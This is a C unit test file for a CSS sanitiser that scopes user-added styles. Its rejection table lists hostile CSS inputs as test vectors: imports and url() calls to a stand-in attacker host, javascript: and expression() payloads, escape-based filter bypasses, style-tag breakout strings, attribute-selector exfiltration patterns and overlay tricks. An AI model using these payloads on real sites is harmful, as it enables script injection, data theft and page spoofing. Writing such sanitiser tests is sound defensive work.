/* Added CSS: what organisers write comes out scoped and whole; what attackers
 * write does not come out.
 *
 * SPDX-License-Identifier: Apache-2.0 */
#include "t/unit/unit.h"

#include "core/css.h"

#include <apr_strings.h>
#include <string.h>

#define NAME                                                                   \
    "000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1eff.png"
#define IMAGE "url(\"../../i/" NAME "\")"

static kuji_css_t clean(const char *source)
{
    kuji_css_t css;

    kuji_css_clean(&css, source, strlen(source), unit_pool);
    return css;
}

/* What comes out, in one line. */
static const char *out_of(const char *source)
{
    char *text = apr_pstrdup(unit_pool, clean(source).text), *c;

    for (c = text; (c = strchr(c, '\n'));) {
        memmove(c, c + 1, strlen(c));
    }
    return text;
}

static const struct {
    const char *in, *out;
} good[] = {
    {"", ""},
    {"  /* nothing */ ", ""},
    {".prize{color:red}", ".organiser .prize{color:red;}"},
    {"h1 , .a.b > p+q ~ #x{ COLOR : #FFF ; ; width:10px }",
     ".organiser h1,.organiser .a.b>p+q~#x{color:#FFF;width:10px;}"},
    {"*::before{content:\"\\201C\"}", ".organiser *::before{content:\"“\";}"},
    {"p:before{content:'it\\'s'}",
     ".organiser p::before{content:\"it\\27 s\";}"},
    {"li:nth-child(2N + 1):not(.a, .b:hover){margin:-1.5e2PX auto}",
     ".organiser li:nth-child(2N + 1):not(.a,.b:hover){margin:-1.5e2PX auto;}"},
    {"li:nth-child(-n+3){order:+1}",
     ".organiser li:nth-child(-n+3){order:+1;}"},
    {".\\31 st{color:red}", ".organiser .\\31 st{color:red;}"},
    {".賞{font-family:\"游ゴシック\",sans-serif}",
     ".organiser .賞{font-family:\"游ゴシック\",sans-serif;}"},
    {"a{color:red!important;top:0 ! IMPORTANT}",
     ".organiser a{color:red!important;top:0!important;}"},
    {"a{--x:1px/2;width:calc(var(--x) * (2 + 1))}",
     ".organiser a{--x:1px/2;width:calc(var(--x) * (2 + 1));}"},
    {"a{grid-template-columns:[full] 1fr minmax(0,2fr)}",
     ".organiser a{grid-template-columns:[full] 1fr minmax(0,2fr);}"},
    {"a{background:linear-gradient(90deg,red 10%,hsl(20 30% 40%/.5))}",
     ".organiser a{background:linear-gradient(90deg,red 10%,hsl(20 30% "
     "40%/.5));}"},
    {"a{background:url( " NAME " )}", ".organiser a{background:" IMAGE ";}"},
    {"a{background:URL(/i/" NAME ") no-repeat}",
     ".organiser a{background:" IMAGE " no-repeat;}"},
    {"a{background:url( '../../i/" NAME "' )}",
     ".organiser a{background:" IMAGE ";}"},
    {"@media (min-width : 40rem) and (orientation:landscape){a{top:0}}",
     "@media (min-width : 40rem) and (orientation:landscape){.organiser "
     "a{top:0;}}"},
    {"@MEDIA screen{@supports (display:grid){a{display:grid}}}",
     "@media screen{@supports (display:grid){.organiser a{display:grid;}}}"},
    {"@keyframes spin{from{opacity:0}50%,TO{opacity:1}}"
     "a{animation:spin 1s, fade 2s;animation-name:spin}",
     "@keyframes organiser-spin{from{opacity:0;}50%,to{opacity:1;}}"
     ".organiser a{animation:organiser-spin 1s, fade "
     "2s;animation-name:organiser-spin;}"},
    /* the animation's name may come first */
    {"a{animation:settle 1s}@keyframes settle{to{opacity:0}}",
     ".organiser a{animation:organiser-settle 1s;}"
     "@keyframes organiser-settle{to{opacity:0;}}"},
    {"a{margin:1px/**/2px}", ".organiser a{margin:1px/**/2px;}"},
    {"a/**/:hover/**/{color/**/:/**/red/**/}",
     ".organiser a:hover{color:/**/red;}"},
    {"a{\ttransform:translate(-50%,\r\n1e3px)\f}",
     ".organiser a{transform:translate(-50%, 1e3px);}"},
};

START_TEST(keeps)
{
    kuji_css_t css = clean(good[_i].in);

    ck_assert_str_eq(out_of(good[_i].in), good[_i].out);
    ck_assert_msg(css.nfaults == 0, "%s: %s %s", good[_i].in,
                  kuji_css_fault_name(css.faults[0].fault), css.faults[0].what);
}
END_TEST

/* Each yields nothing, and is told as this. */
static const struct {
    kuji_css_fault_e fault;
    const char *in;
} bad[] = {
    /* fetching */
    {KUJI_CSS_AT_RULE, "@import url(//evil.example/x.css);"},
    {KUJI_CSS_AT_RULE, "@import 'x';"},
    {KUJI_CSS_AT_RULE, "@IMPORT\"x\""},
    {KUJI_CSS_AT_RULE, "@\\69mport 'x';"},
    {KUJI_CSS_AT_RULE, "@im/**/port 'x';"},
    {KUJI_CSS_AT_RULE, "@charset \"utf-7\";"},
    {KUJI_CSS_AT_RULE, "@namespace url(http://www.w3.org/1999/xhtml);"},
    {KUJI_CSS_AT_RULE, "@font-face{font-family:x;src:url(//evil.example/f);"
                       "unicode-range:U+0041}"},
    {KUJI_CSS_AT_RULE, "@layer reset{a{top:0}}"},
    {KUJI_CSS_AT_RULE, "@layer organiser;"},
    {KUJI_CSS_AT_RULE, "@page{margin:0}"},
    {KUJI_CSS_AT_RULE, "@property --ink{syntax:'*';inherits:true}"},
    {KUJI_CSS_AT_RULE, "@scope (html){a{top:0}}"},
    {KUJI_CSS_AT_RULE, "@container (width>1px){a{top:0}}"},
    {KUJI_CSS_AT_RULE, "@-moz-document url(){a{top:0}}"},
    {KUJI_CSS_AT_RULE, "@view-transition{navigation:auto}"},
    {KUJI_CSS_AT_RULE, "a{@media print{color:red}}"},
    {KUJI_CSS_AT_RULE, "a{@import 'x';}"},
    {KUJI_CSS_URL, "a{background:url(https://evil.example/x.png)}"},
    {KUJI_CSS_URL, "a{background:url(//evil.example/i/" NAME ")}"},
    {KUJI_CSS_URL, "a{background:u\\72l(https://evil.example/)}"},
    {KUJI_CSS_URL, "a{background:\\75 rl(https://evil.example/)}"},
    {KUJI_CSS_URL, "a{background:\\000075rl(x)}"},
    {KUJI_CSS_URL, "a{background:url('https://evil.example/')}"},
    {KUJI_CSS_URL, "a{background:url(\"" NAME "\" x)}"},
    {KUJI_CSS_URL, "a{background:url(\"a\"\"" NAME "\")}"},
    {KUJI_CSS_URL, "a{background:url(/admin/campaigns)}"},
    {KUJI_CSS_URL, "a{background:url(/i/../admin)}"},
    {KUJI_CSS_URL, "a{background:url(/i/" NAME "?x=1)}"},
    {KUJI_CSS_URL, "a{background:url(/i/" NAME "#x)}"},
    {KUJI_CSS_URL, "a{background:url(data:image/svg+xml,<svg/>)}"},
    {KUJI_CSS_SYNTAX, "a{background:url(javascript:alert(1\\))}"},
    {KUJI_CSS_URL, "a{background:url()}"},
    {KUJI_CSS_SYNTAX, "a{background:url(var(--x))}"},
    {KUJI_CSS_URL, "a{--x:url(//evil.example/)}"},
    {KUJI_CSS_URL, "a{filter:url(#x)}"},
    {KUJI_CSS_VALUE, "a{background:image-set('https://evil.example/' 1x)}"},
    {KUJI_CSS_VALUE, "a{background:-webkit-image-set(url(" NAME ") 1x)}"},
    {KUJI_CSS_VALUE, "a{background:cross-fade('x','y')}"},
    {KUJI_CSS_VALUE, "a{background:src('https://evil.example/')}"},
    {KUJI_CSS_VALUE, "a{--x:image-set('https://evil.example/' 1x)}"},
    {KUJI_CSS_VALUE, "a{content:attr(value)}"},
    {KUJI_CSS_VALUE, "a{background:element(#consent)}"},
    {KUJI_CSS_VALUE, "a{background:paint(x)}"},
    {KUJI_CSS_VALUE, "a{width:expression(alert(1))}"},
    {KUJI_CSS_VALUE, "a{width:expr/**/ession(alert(1))}"},
    {KUJI_CSS_VALUE, "a{width:e\\78pression(alert(1))}"},
    {KUJI_CSS_PROPERTY, "a{behavior:url(x.htc)}"},
    {KUJI_CSS_PROPERTY, "a{-moz-binding:url(x.xml#y)}"},
    {KUJI_CSS_PROPERTY, "a{-ms-filter:'progid:x'}"},
    {KUJI_CSS_PROPERTY, "a{src:local(x)}"},
    {KUJI_CSS_VALUE, "a{filter:progid:DXImageTransform.Microsoft.x()}"},
    /* reaching out */
    {KUJI_CSS_OUTSIDE, "body{display:none}"},
    {KUJI_CSS_OUTSIDE, "BODY .foot{display:none}"},
    {KUJI_CSS_OUTSIDE, ":root{--ink:#fff}"},
    {KUJI_CSS_OUTSIDE, "a,html{top:0}"},
    {KUJI_CSS_OUTSIDE, ":is(body,a) p{top:0}"},
    {KUJI_CSS_OUTSIDE, ":host{top:0}"},
    {KUJI_CSS_OUTSIDE, ".organiser{contain:none}"},
    {KUJI_CSS_OUTSIDE, ".\\6frganiser~.foot{top:0}"},
    {KUJI_CSS_SELECTOR, "~ footer{display:none}"},
    {KUJI_CSS_SELECTOR, "+ .foot{display:none}"},
    {KUJI_CSS_SELECTOR, "> a{top:0}"},
    {KUJI_CSS_SELECTOR, "a >{top:0}"},
    {KUJI_CSS_SELECTOR, "a,{top:0}"},
    {KUJI_CSS_SELECTOR, ",a{top:0}"},
    {KUJI_CSS_SELECTOR, "a > > b{top:0}"},
    {KUJI_CSS_SELECTOR, ".a/**/b{top:0}"},
    {KUJI_CSS_SELECTOR, "{top:0}"},
    {KUJI_CSS_SELECTOR, "input[value^=\"a\"]{top:0}"},
    {KUJI_CSS_SELECTOR, "[name=key]{background:url(" NAME ")}"},
    {KUJI_CSS_SELECTOR, "a:has(#consent){top:0}"},
    {KUJI_CSS_SELECTOR, "a:not([x]){top:0}"},
    {KUJI_CSS_SELECTOR, "a:visited{top:0}"},
    {KUJI_CSS_SELECTOR, "a:nth-child(1 of b){top:0}"},
    {KUJI_CSS_SELECTOR, "a::part(x){top:0}"},
    {KUJI_CSS_SELECTOR, "::backdrop{top:0}"},
    {KUJI_CSS_SELECTOR, "::view-transition{top:0}"},
    {KUJI_CSS_SELECTOR, "svg|a{top:0}"},
    {KUJI_CSS_SELECTOR, "*|*{top:0}"},
    {KUJI_CSS_SELECTOR, "a:nonsense{top:0}"},
    {KUJI_CSS_NESTING, "& a{top:0}"},
    {KUJI_CSS_NESTING, "a{& b{top:0}}"},
    {KUJI_CSS_NESTING, "a{b:hover{top:0}}"},
    {KUJI_CSS_NESTING, "a{--x:{top:0}}"},
    /* covering */
    {KUJI_CSS_VALUE, "a{position:fixed}"},
    {KUJI_CSS_VALUE, "a{position:f\\69xed}"},
    {KUJI_CSS_VALUE, "a{position:sticky}"},
    {KUJI_CSS_VALUE, "a{position:-webkit-sticky}"},
    {KUJI_CSS_VALUE, "a{position:var(--x)}"},
    {KUJI_CSS_VALUE, "a{position:fixed!important}"},
    {KUJI_CSS_PROPERTY, "a{contain:none}"},
    {KUJI_CSS_PROPERTY, "a{all:initial}"},
    {KUJI_CSS_PROPERTY, "a{view-transition-name:x}"},
    {KUJI_CSS_PROPERTY, "a{pointer-events:none}"},
    {KUJI_CSS_VALUE, "a{width:1px-}"},
    /* breaking out */
    {KUJI_CSS_SYNTAX, "<!--"},
    {KUJI_CSS_SYNTAX, "-->"},
    {KUJI_CSS_SYNTAX, "a{top:0"},
    {KUJI_CSS_SYNTAX, "a{top:0}}"},
    {KUJI_CSS_SYNTAX, "a{top:calc(1px}"},
    {KUJI_CSS_SYNTAX, "a{top:0)}"},
    {KUJI_CSS_SYNTAX, "a{content:\"x\n}"},
    {KUJI_CSS_SYNTAX, "a{content:'x"},
    {KUJI_CSS_SYNTAX, "a{background:url(x y)}"},
    {KUJI_CSS_SYNTAX, "a{background:url(x\"y)}"},
    {KUJI_CSS_SYNTAX, "</style><script>alert(1)</script>"},
    {KUJI_CSS_SYNTAX, "a"},
    {KUJI_CSS_SYNTAX, "a{color}"},
    {KUJI_CSS_SYNTAX, "a{color:}"},
    {KUJI_CSS_SYNTAX, "a{:red}"},
    {KUJI_CSS_SYNTAX, "a{*color:red}"},
    {KUJI_CSS_SYNTAX, "@media (width<40rem){a{top:0}}"},
    {KUJI_CSS_SYNTAX, "@media x</style>{a{top:0}}"},
    {KUJI_CSS_SYNTAX, "@supports selector(a){a{top:0}}"},
    {KUJI_CSS_SYNTAX, "@keyframes{to{top:0}}"},
    {KUJI_CSS_SYNTAX, "@keyframes 'x'{to{top:0}}"},
    {KUJI_CSS_SELECTOR, "@keyframes x{a{top:0}}"},
    {KUJI_CSS_VALUE, "a{color:a<b}"},
    {KUJI_CSS_VALUE, "a{color:@x}"},
    {KUJI_CSS_VALUE, "a{color:red !x}"},
    {KUJI_CSS_ENCODING, "a{color:\xff}"},
    {KUJI_CSS_ENCODING, "a{color:\xc0\xbc}"},
    {KUJI_CSS_ENCODING, "a{color:\x01}"},
    {KUJI_CSS_ENCODING, "a{color:\x7f}"},
};

START_TEST(refuses)
{
    kuji_css_t css = clean(bad[_i].in);

    ck_assert_msg(css.nfaults > 0, "%s: no fault", bad[_i].in);
    ck_assert_msg(css.faults[0].fault == bad[_i].fault, "%s: %s (%s)",
                  bad[_i].in, kuji_css_fault_name(css.faults[0].fault),
                  css.faults[0].what);
    /* some of a list of faults may stand beside something harmless */
    ck_assert_msg(css.len == 0, "%s: %s", bad[_i].in, css.text);
}
END_TEST

/* A fault takes its declaration or rule along and nothing else. */
START_TEST(goes_on)
{
    static const char source[] = "a{color:red;position:fixed;top:0}\n"
                                 "@import 'x';\n"
                                 "b{}\n"
                                 "body{top:0}\n"
                                 "c{behavior:x;q{top:0}left:0}\n"
                                 "@media print{d:bad{top:0}e{top:0}}\n"
                                 "f{content:\"</style>\\a <!--\"}";
    static const struct {
        int line;
        kuji_css_fault_e fault;
        const char *what;
    } faults[] = {
        {1, KUJI_CSS_VALUE, "fixed"},  {2, KUJI_CSS_AT_RULE, "import"},
        {4, KUJI_CSS_OUTSIDE, "body"}, {5, KUJI_CSS_PROPERTY, "behavior"},
        {5, KUJI_CSS_NESTING, "q"},    {6, KUJI_CSS_SELECTOR, "bad"}};
    kuji_css_t css = clean(source);
    int i;

    ck_assert_str_eq(out_of(source),
                     ".organiser a{color:red;top:0;}"
                     ".organiser c{left:0;}"
                     "@media print{.organiser e{top:0;}}"
                     ".organiser f{content:\"\\3c /style\\3e \\a "
                     "\\3c !--\";}");
    ck_assert_int_eq(css.nfaults, 6);
    for (i = 0; i < 6; i++) {
        ck_assert_int_eq(css.faults[i].line, faults[i].line);
        ck_assert_str_eq(kuji_css_fault_name(css.faults[i].fault),
                         kuji_css_fault_name(faults[i].fault));
        ck_assert_str_eq(css.faults[i].what, faults[i].what);
    }
}
END_TEST

START_TEST(lists_images)
{
    kuji_css_t css = clean("a{background:url(" NAME "),url('/i/" NAME "')}"
                           "b{list-style-image:url(/i/" NAME ")}");

    ck_assert_int_eq(css.nfaults, 0);
    ck_assert_int_eq(css.nimages, 1);
    ck_assert_str_eq(css.images[0], NAME);
}
END_TEST

static char *repeat(const char *text, unsigned times)
{
    apr_size_t len = strlen(text);
    char *out = apr_palloc(unit_pool, len * times + 1), *at = out;

    while (times--) {
        memcpy(at, text, len);
        at += len;
    }
    *at = '\0';
    return out;
}

START_TEST(bounds)
{
    kuji_css_t css = clean(repeat(" ", KUJI_CSS_MAX));

    ck_assert_int_eq(css.nfaults, 0);
    css = clean(repeat(" ", KUJI_CSS_MAX + 1));
    ck_assert_int_eq(css.faults[0].fault, KUJI_CSS_TOO_LARGE);
    /* few bytes become many */
    css = clean(apr_pstrcat(unit_pool, repeat("a,", 30000), "a{top:0}", NULL));
    ck_assert_int_eq(css.faults[0].fault, KUJI_CSS_TOO_LARGE);
    ck_assert_uint_eq(css.len, 0);
    css = clean(repeat("@x;", 1000));
    ck_assert_int_eq(css.nfaults, KUJI_CSS_FAULTS_MAX);
    css = clean(repeat("(", 1000));
    ck_assert_int_eq(css.nfaults, 1);
    css = clean(apr_pstrcat(unit_pool, repeat("@media a{", 4), "a{top:0}",
                            repeat("}", 4), NULL));
    ck_assert_int_eq(css.faults[0].fault, KUJI_CSS_NESTING);
    ck_assert_uint_eq(css.len, 0);
    css = clean(apr_pstrcat(unit_pool, "a{", repeat("あ", 40), ":red}", NULL));
    ck_assert_uint_eq(strlen(css.faults[0].what), 60);
}
END_TEST

int main(void)
{
    Suite *suite = suite_create("css");
    TCase *kept = tcase_create("keeps"), *refused = tcase_create("refuses");

    tcase_add_checked_fixture(kept, unit_setup, unit_teardown);
    tcase_add_loop_test(kept, keeps, 0, sizeof(good) / sizeof(*good));
    suite_add_tcase(suite, kept);
    tcase_add_checked_fixture(refused, unit_setup, unit_teardown);
    tcase_add_loop_test(refused, refuses, 0, sizeof(bad) / sizeof(*bad));
    suite_add_tcase(suite, refused);
    UNIT_TEST(suite, goes_on);
    UNIT_TEST(suite, lists_images);
    UNIT_TEST(suite, bounds);
    return unit_main(suite);
}
